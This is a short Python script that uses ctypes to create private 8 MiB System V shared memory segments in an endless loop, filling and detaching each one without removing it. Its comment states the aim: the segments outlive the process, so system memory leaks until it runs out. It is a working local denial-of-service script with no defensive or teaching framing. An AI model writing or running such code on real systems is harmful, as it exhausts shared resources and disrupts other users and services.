import ctypes

libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
# Shared memory outlives those who made it, and belongs to no process.
while True:
    block = libc.shmget(0, 8 << 20, 0o1600)
    if block < 0:
        continue
    address = libc.shmat(block, None, 0)
    if address != 2**64 - 1:
        ctypes.memset(address, 1, 8 << 20)
        libc.shmdt(ctypes.c_void_p(address))
